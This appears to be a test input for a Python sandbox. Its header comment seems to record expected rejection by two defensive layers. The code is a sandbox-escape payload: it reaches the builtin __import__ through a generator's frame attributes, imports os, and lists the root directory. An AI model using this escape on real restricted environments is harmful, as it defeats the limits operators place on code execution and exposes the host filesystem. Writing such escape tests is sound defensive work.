# fence: rejected | walls: error
def inner():
    yield 1
def outer():
    yield from inner()
generator = outer()
next(generator)
os = generator.gi_yieldfrom.gi_frame.f_builtins["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
